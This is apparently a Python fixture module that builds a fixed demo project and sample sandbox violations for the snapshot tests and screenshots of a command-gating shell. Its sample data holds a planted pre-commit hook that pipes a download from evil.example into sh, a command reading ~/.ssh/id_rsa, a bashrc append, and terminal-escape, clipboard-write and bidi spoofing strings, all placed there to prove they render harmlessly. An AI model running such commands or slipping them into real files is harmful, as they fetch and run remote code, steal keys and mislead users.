"""Fixed, reproducible content for snapshot tests and `screenshots/make_screenshots.py`.

Everything lives under one fixed directory (`DEMO_ROOT`) so that paths on screen are the same on
every run; times and durations are fixed. Spoofing attempts (markup, escape sequences, bidi and
zero-width characters, padding) are part of the content on purpose: the pictures prove they render as
visible text. Nothing here is used by the shell itself.
"""

from __future__ import annotations

import contextlib
import fcntl
import os
import shutil
import stat
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path

from boundary.violations import Change, ChangeOp, Violation, ViolationKind
from corral.decision import PromptRequest
from corral.grouping import group_violations, summarize
from corral.locations import Locations
from corral.sensitivity import is_sensitive, why_it_matters
from corral.words import Finished, Status, Tone
from tui.commandlog import CommandEntry

DEMO_ROOT = Path("/tmp/corral-demo")
PROJECT = DEMO_ROOT / "project"
HOME = Path("/home/dev")
SPOOF_COMMAND = (
    "echo '[red]fake[/] [link=https://evil.example]ok[/link]'; printf 'ok\\e[2K\\e[1A\\e]52;c;aGk=\\a'"
)
SPOOF_OUTPUT = [
    "[bold red]ALL TESTS PASSED[/] [link=https://evil.example]click[/link]",
    "\x1b[2K\x1b[1Aerased line? \x1b[8mconcealed\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07clipboard write",
    "bidi: access = \u202e'nimda'\u202c; zero\u200bwidth \ufeffBOM",
    "padding:" + " " * 80 + "hidden far right",
]


class DemoRootError(RuntimeError):
    """The fixed demo directory (or its lock) is not this user's to use."""


def _lock_path(root: Path, uid: int | None = None) -> Path:
    # One lock per user: a lock file shared between users in /tmp (mode 0o666) lets anyone hold it, or
    # plant it as a symlink before we open it.
    return root.with_name(f"{root.name}.{os.getuid() if uid is None else uid}.lock")


# The demo roots this process holds through `exclusive`: `prepare` builds only in one of them, so no
# caller leaves a tree behind that blocks another user's run (a test that called `prepare` bare once did).
_held: set[Path] = set()


def _open_private(path: Path) -> int:
    """Open (or create, mode 0o600) a file of ours; refuse a symlink or another user's file."""
    fd = os.open(path, os.O_RDWR | os.O_CREAT | os.O_CLOEXEC | os.O_NOFOLLOW, 0o600)
    info = os.fstat(fd)
    if info.st_uid != os.getuid() or not stat.S_ISREG(info.st_mode):
        os.close(fd)
        raise DemoRootError(f"{path} belongs to uid {info.st_uid}, not to this user: remove it")
    return fd


def _owner(root: Path) -> str:
    """`absent`, `ours` (a real directory of this user) or `foreign` (anything else: never followed)."""
    try:
        info = os.lstat(root)
    except FileNotFoundError:
        return "absent"
    if stat.S_ISDIR(info.st_mode) and not stat.S_ISLNK(info.st_mode) and info.st_uid == os.getuid():
        return "ours"
    return "foreign"


def _remove_tree(root: Path, attempts: int = 5) -> None:
    """Remove `root`; a git child of the app that is still exiting may add a lock file meanwhile, so a
    tree that is not empty yet is tried again a few times."""
    for attempt in range(attempts):
        try:
            shutil.rmtree(root)
            return
        except OSError:
            if attempt == attempts - 1:
                raise
            time.sleep(0.2)


def _reclaim_abandoned(root: Path) -> bool:
    """As root, remove another user's demo root that no run of theirs holds (a killed run's left-over,
    which would otherwise block every later run). Their lock is held meanwhile (created for them if it
    is missing), so none of their runs can claim the root while it goes. True if it was removed."""
    if os.geteuid() != 0:
        return False
    try:
        info = os.lstat(root)
    except FileNotFoundError:
        return True
    if info.st_uid == os.getuid():
        return False  # a link or file of our own in the demo root's place: never ours to guess at
    lock = _lock_path(root, info.st_uid)
    try:
        fd = os.open(lock, os.O_RDWR | os.O_CREAT | os.O_EXCL | os.O_CLOEXEC | os.O_NOFOLLOW, 0o600)
        os.fchown(fd, info.st_uid, info.st_gid)
    except FileExistsError:
        try:
            fd = os.open(lock, os.O_RDONLY | os.O_CLOEXEC | os.O_NOFOLLOW)
        except OSError:
            return False  # a planted link or the like: wait, then refuse
    try:
        lock_info = os.fstat(fd)
        if lock_info.st_uid != info.st_uid or not stat.S_ISREG(lock_info.st_mode):
            return False
        try:
            fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
        except BlockingIOError:
            return False  # one of their runs holds it: wait for it
        if stat.S_ISDIR(info.st_mode):
            shutil.rmtree(root)  # fd-based on Linux: links inside are removed, never followed
        else:
            root.unlink()
        return True
    finally:
        os.close(fd)


def _claim(root: Path, wait_s: float) -> None:
    """Create `root` (0o700) for this process. The directory itself is the lock between users: another
    user's run removes it when done, so wait for that; never write into a tree someone else controls."""
    deadline = time.monotonic() + wait_s
    while True:
        try:
            root.mkdir(mode=0o700)
            return
        except FileExistsError:
            pass
        owner = _owner(root)
        if owner == "ours":
            shutil.rmtree(root)  # we hold this user's lock: a crashed run's left-over
            continue
        if owner == "foreign" and _reclaim_abandoned(root):
            continue
        if owner == "foreign" and time.monotonic() >= deadline:
            raise DemoRootError(f"{root} is not a directory of this user (another user's run?): remove it")
        time.sleep(0.2)


@contextlib.contextmanager
def exclusive(root: Path = DEMO_ROOT, *, wait_s: float = 600.0) -> Iterator[None]:
    """Hold the demo directory for this process, and remove it afterwards.

    The path is fixed (so pictures are reproducible). Processes of one user take turns on a per-user
    lock file (0o600); between users the directory itself is the lock (created 0o700, removed after
    use), so nobody can hold, plant or redirect it for another user. A lock file or directory that is
    not this user's raises `DemoRootError` (after `wait_s` for another user's run to finish).
    """
    fd = _open_private(_lock_path(root))
    try:
        fcntl.flock(fd, fcntl.LOCK_EX)
        _claim(root, wait_s)
        _held.add(root)
        try:
            yield
        finally:
            _held.discard(root)
            if _owner(root) == "ours":
                _remove_tree(root)
    finally:
        os.close(fd)


def prepare(root: Path = DEMO_ROOT) -> Path:
    """Create the demo project (a git repo with a `.corral/config.toml` and hook) from scratch, in a
    demo root this process holds through `exclusive` (which removes it afterwards)."""
    if root not in _held:
        raise DemoRootError(f"demo.prepare({root}) runs only inside demo.exclusive({root})")
    owner = _owner(root)
    if owner == "foreign":
        raise DemoRootError(f"{root} exists and is not a directory of this user: remove it to use the demo")
    if owner == "absent":
        root.mkdir(mode=0o700)  # fails if someone created it meanwhile: never reuse a planted tree
    for entry in root.iterdir():
        if entry.is_dir() and not entry.is_symlink():
            shutil.rmtree(entry)
        else:
            entry.unlink()
    project = root / "project"
    (project / ".corral" / "hooks").mkdir(parents=True)
    subprocess.run(["git", "init", "-q", str(project)], check=True)
    (project / "README.md").write_text("demo project\n")
    (project / ".corral" / "config.toml").write_text(
        '[paths]\nwritable = ["build"]\n\n[network]\nallow = ["pypi.org", "files.pythonhosted.org"]\n\n'
        '[env]\nRUST_LOG = "debug"\n\n[hooks]\nsession_start = ".corral/hooks/start.sh"\n'
        'before_command = "make -s check-env"\n'
    )
    (project / ".corral" / "hooks" / "start.sh").write_text("#!/bin/sh\necho 'warming caches'\n")
    (project / ".mcp.json").write_text(
        '{"mcpServers": {"docs": {"command": "npx", "args": ["docs-server\u202e"]}}}\n'
    )
    (project / "build").mkdir()
    captured = root / "captured"
    captured.mkdir()
    (captured / "pre-commit").write_text("#!/bin/sh\ncurl -s https://evil.example/x | sh\n")
    (captured / "bashrc").write_text("# user's bashrc\nexport PATH=$HOME/bin:$PATH\nalias ls='ls --color'\n")
    (root / "host-bashrc").write_text("# user's bashrc\nexport PATH=$HOME/bin:$PATH\n")
    return project


def demo_violations(root: Path = DEMO_ROOT) -> list[Violation]:
    """A command's worth of violations: a protected hook, an rc file, a credential read, hosts."""
    project = root / "project"
    captured = root / "captured"
    hook = project / ".git" / "hooks" / "pre-commit"
    return [
        Violation(
            ViolationKind.FS_PROTECTED,
            str(hook),
            "create",
            changes=(Change(hook, ChangeOp.CREATE, captured / "pre-commit", 47, 0o100755),),
        ),
        Violation(
            ViolationKind.FS_WRITE,
            str(root / "host-bashrc"),
            "modify",
            changes=(Change(root / "host-bashrc", ChangeOp.MODIFY, captured / "bashrc", 78, 0o100644),),
        ),
        Violation(ViolationKind.FS_WRITE, str(HOME / ".cache" / "tool" / "state\u202egnp.json"), "create"),
        Violation(ViolationKind.FS_READ, str(HOME / ".ssh" / "id_rsa"), "read"),
        Violation(ViolationKind.NET, "pypi.org:443", "connect"),
        Violation(ViolationKind.NET, "[link=https://x]evil[/link].example:443", "connect"),
    ]


def demo_request(violations: list[Violation] | None = None, command: str | None = None) -> PromptRequest:
    """The PromptRequest the core would build for `violations` (same helpers as the Escalator)."""
    found = violations if violations is not None else demo_violations()
    return PromptRequest(
        command=command
        or "pip install -r requirements.txt && cp hooks/pre-commit .git/hooks/ && cat ~/.ssh/id_rsa # [red]ok[/]",
        project=PROJECT,
        violations=tuple(found),
        groups=group_violations(found),
        sensitive=frozenset(v for v in found if is_sensitive(v)),
        reasons={v.target: why_it_matters(v) for v in found},
        summary=summarize(found),
        timeout_s=300,
    )


def write_request(root: Path = DEMO_ROOT) -> PromptRequest:
    """One write outside the workspace, with its captured change."""
    violation = demo_violations(root)[1]
    return demo_request([violation], command="echo 'alias ls=\"ls --color\"' >> ../host-bashrc")


def net_request() -> PromptRequest:
    """One new host (nothing captured)."""
    violation = Violation(ViolationKind.NET, "registry.npmjs.org:443", "connect")
    return demo_request([violation], command="npm install left-pad")


def protected_request(root: Path = DEMO_ROOT) -> PromptRequest:
    """A protected path deep enough to end in an ellipsis at 80 columns."""
    deep = root / "project" / "packages" / "frontend-dashboard" / "node_modules" / ".bin" / ".envrc"
    violation = Violation(ViolationKind.FS_PROTECTED, str(deep), "create")
    return demo_request([violation], command="npx create-env --here")


def many_hosts_request(count: int = 50) -> PromptRequest:
    """A flood of hosts with one sensitive item interleaved (A09)."""
    hosts = [Violation(ViolationKind.NET, f"cdn{n}.example.net:443", "connect") for n in range(count)]
    hosts.insert(count // 2, Violation(ViolationKind.FS_PROTECTED, str(PROJECT / ".envrc"), "create"))
    return demo_request(hosts, command="python fetch_assets.py")


def demo_entries() -> list[tuple[CommandEntry, list[str], Finished]]:
    """Log entries with fixed output and durations: sandboxed, allowed, denied, failed, spoofing."""
    return [
        (
            CommandEntry("pytest -q"),
            ["........................................ [100%]", "40 passed in 0.84s"],
            Finished(Status.SANDBOXED, 0, 1240.0),
        ),
        (
            CommandEntry("touch ~/x"),
            [],
            Finished(Status.ALLOWED, 0, 85.0, [(Tone.ALLOWED, f"allowed (once, asked) fs-write {HOME}/x")]),
        ),
        (
            CommandEntry("echo 'export EVIL=1' >> ~/.bashrc"),
            [],
            Finished(Status.DENIED, 0, 92.0, [(Tone.DENIED, f"denied (asked) fs-write {HOME}/.bashrc")]),
        ),
        (
            CommandEntry("make lint"),
            ["ruff check .", "src/app.py:3:1: F401 unused import"],
            Finished(Status.FAILED, 2, 430.0),
        ),
        (CommandEntry(SPOOF_COMMAND), SPOOF_OUTPUT, Finished(Status.SANDBOXED, 0, 12.0)),
    ]


def demo_locations(base: Path) -> Locations:
    """Locations under `base` (tests and the screenshot script point HOME/XDG there as well)."""
    return Locations(base / "config", base / "data", base / "cache", base / "run")


FIXED_TIME = 1_767_261_600.0
"""2026-01-01 10:00 UTC: every stored date in the demo state."""


def seed_state(locations: Locations, project: Path = PROJECT) -> None:
    """Trust records, rules and ledger rows with fixed dates, for the review, rules and stats screens."""
    import dataclasses
    import sqlite3

    from corral import __version__
    from corral.ledger import Ledger, PromptRecord
    from corral.rules import RuleStore
    from trust.gate import deny, grant
    from trust.store import TrustStore

    store = TrustStore(locations.trust_dir)
    other = project.parent / "other-project"
    other.mkdir(exist_ok=True)
    for root, decide in ((project, grant), (other, deny)):
        record = decide(root, store, __version__)
        store.put(dataclasses.replace(record, decided_at=FIXED_TIME))
    (other / ".envrc").write_text("export CHANGED=1\n")
    rules = RuleStore.open(locations.rules_path)
    try:
        rules.add(project, ViolationKind.NET, "pypi.org:443")
        rules.add(project, ViolationKind.FS_WRITE, str(HOME / ".cache" / "pre-commit"), directory=True)
        rules.add(
            project,
            ViolationKind.FS_PROTECTED,
            str(project / ".git" / "hooks" / "pre-push"),
            confirmed_sensitive=True,
        )
    finally:
        rules.close()
    # Fixed creation dates, written after the fact (the store itself always stamps the current time).
    with contextlib.closing(sqlite3.connect(locations.rules_path)) as database, database:
        database.execute("UPDATE rules SET created_at = ?", (FIXED_TIME,))
    ledger = Ledger.open(locations.ledger_path)
    try:
        prompts_per_session = [5, 3, 4, 2, 2, 1, 0, 1, 0, 0, 1, 0]
        for index, prompts in enumerate(prompts_per_session):
            started = FIXED_TIME + index * 86_400
            session_id = ledger.start_session(str(project), "textual", started_at=started)
            for number in range(20):
                asked = number < prompts
                records = (
                    [
                        PromptRecord(
                            "fs-write",
                            f"{HOME}/x{number}",
                            "create",
                            "once" if number % 3 else "deny",
                            True,
                            "person",
                            "textual",
                            1500.0 + 400 * number,
                        )
                    ]
                    if asked
                    else []
                )
                ledger.record_command(
                    session_id=session_id,
                    project=str(project),
                    command=f"step {number}",
                    cwd=str(project),
                    started_at=started + number,
                    duration_ms=120.0,
                    exit_code=0,
                    violation_count=len(records),
                    prompted=asked,
                    classic_would_prompt=number % 2 == 0,
                    prompts=records,
                )
    finally:
        ledger.close()
